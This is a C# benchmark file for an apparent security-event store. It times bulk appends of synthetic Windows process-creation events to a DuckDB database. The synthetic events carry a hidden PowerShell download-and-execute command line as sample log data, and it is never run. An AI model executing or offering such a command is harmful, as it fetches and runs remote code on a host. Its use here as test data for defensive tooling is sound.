using System.Diagnostics;
using System.Net;
using Vigil.Events;
using Vigil.Storage;

namespace Vigil.Bench;

/// <summary>
/// A plain timed run (not BenchmarkDotNet: one long append is what matters, not a micro-op):
/// appends N synthetic events with ~25 fields set to a fresh store and prints events/s.
///   dotnet run -c Release --project bench/Vigil.Bench -- store-append [N] [batchSize]
/// </summary>
internal static class StoreAppendRun
{
    public static int Run(string[] args)
    {
        int n = args.Length > 0 ? int.Parse(args[0], System.Globalization.CultureInfo.InvariantCulture) : 200_000;
        int batch = args.Length > 1 ? int.Parse(args[1], System.Globalization.CultureInfo.InvariantCulture) : 10_000;
        string dir = Path.Combine(Path.GetTempPath(), "vigil-bench-" + Guid.NewGuid().ToString("N"));
        Directory.CreateDirectory(dir);
        string db = Path.Combine(dir, "bench.duckdb");
        try
        {
            var tax = Taxonomy.Default;
            var e = new NormalizedEvent(tax);
            var raws = new string[1000];
            for (int i = 0; i < raws.Length; i++) raws[i] = SyntheticRaw(i);

            // Building the synthetic events is the pipeline's work, not the store's: time it alone first so the
            // store's share can be told apart.
            var fillTime = Stopwatch.StartNew();
            for (int i = 0; i < n; i++) Fill(e, i);
            fillTime.Stop();

            // Timed until the store is closed: closing checkpoints what is still only in the WAL.
            var sw = Stopwatch.StartNew();
            var store = EventStore.Open(db);
            int fields = 0;
            using (var w = store.CreateWriter(new EventStoreWriterOptions { BatchSize = batch }))
            {
                for (int i = 0; i < n; i++)
                {
                    Fill(e, i);
                    fields += e.Count;
                    w.Add(e, "windows_security_4688", raws[i % raws.Length], "bench.zip!events.json", i + 1);
                }
            }
            long count = store.CountEvents();
            store.Dispose();
            sw.Stop();
            double storeSeconds = sw.Elapsed.TotalSeconds - fillTime.Elapsed.TotalSeconds;
            Console.WriteLine($"appended {n:N0} events ({(double)fields / n:F1} fields set each, batch {batch:N0}) in {sw.Elapsed.TotalSeconds:F2} s, store closed: {n / sw.Elapsed.TotalSeconds:N0} events/s");
            Console.WriteLine($"building the events alone took {fillTime.Elapsed.TotalSeconds:F2} s; the store's share: {n / storeSeconds:N0} events/s");
            Console.WriteLine($"store holds {count:N0} events; file {new FileInfo(db).Length / 1048576.0:F1} MiB");
            return 0;
        }
        finally
        {
            Directory.Delete(dir, recursive: true);
        }
    }

    private static void Fill(NormalizedEvent e, int i)
    {
        e.Clear();
        e.Set("time", Value.DateTime(new DateTime(2024, 1, 1, 0, 0, 0, DateTimeKind.Utc).AddSeconds(i)));
        e.Set("event_src.title", Value.String("windows"));
        e.Set("event_src.host", Value.String($"host{i % 50}.corp.local"));
        e.Set("event_src.vendor", Value.String("microsoft"));
        e.Set("event_src.subsys", Value.String("Security"));
        e.Set("event_src.category", Value.String("Operating system"));
        e.Set("msgid", Value.String("4688"));
        e.Set("action", Value.String("start"));
        e.Set("status", Value.String("success"));
        e.Set("importance", Value.String("low"));
        e.Set("subject.account.name", Value.String($"user{i % 200}"));
        e.Set("subject.account.domain", Value.String("CORP"));
        e.Set("subject.account.id", Value.String($"S-1-5-21-1000-{i % 200}"));
        e.Set("subject.account.session_id", Value.String($"0x{i:x}"));
        e.Set("object.process.name", Value.String("powershell.exe"));
        e.Set("object.process.fullpath", Value.String(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"));
        e.Set("object.process.cmdline", Value.String($"powershell.exe -nop -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('http://10.0.0.{i % 250}/a')\""));
        e.Set("object.process.id", Value.String((1000 + i % 60000).ToString(System.Globalization.CultureInfo.InvariantCulture)));
        e.Set("object.process.parent.name", Value.String("cmd.exe"));
        e.Set("src.ip", Value.Ip(new IPAddress(new byte[] { 10, 0, (byte)(i >> 8), (byte)i })));
        e.Set("dst.ip", Value.Ip(IPAddress.Parse("192.168.1.10")));
        e.Set("dst.port", Value.Number(443));
        e.Set("src.port", Value.Number(49152 + i % 16000));
        e.Set("duration", Value.Number(i % 1000));
        e.Set("assets", Value.List(new[] { Value.String("a1b2c3d4-0000-0000-0000-000000000001") }));
    }

    private static string SyntheticRaw(int i) =>
        "{\"EventID\":4688,\"Channel\":\"Security\",\"Hostname\":\"host" + (i % 50) + ".corp.local\",\"SubjectUserName\":\"user" + (i % 200) +
        "\",\"SubjectDomainName\":\"CORP\",\"NewProcessName\":\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\"," +
        "\"CommandLine\":\"powershell.exe -nop -w hidden -c iex (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a')\"," +
        "\"ParentProcessName\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"EventTime\":\"2024-01-01 00:00:00\",\"Severity\":\"INFO\",\"SeverityValue\":2," +
        "\"Keywords\":-9214364837600034816,\"ProcessID\":4,\"ThreadID\":" + (100 + i) + ",\"RecordNumber\":" + (1000000 + i) + "}";
}
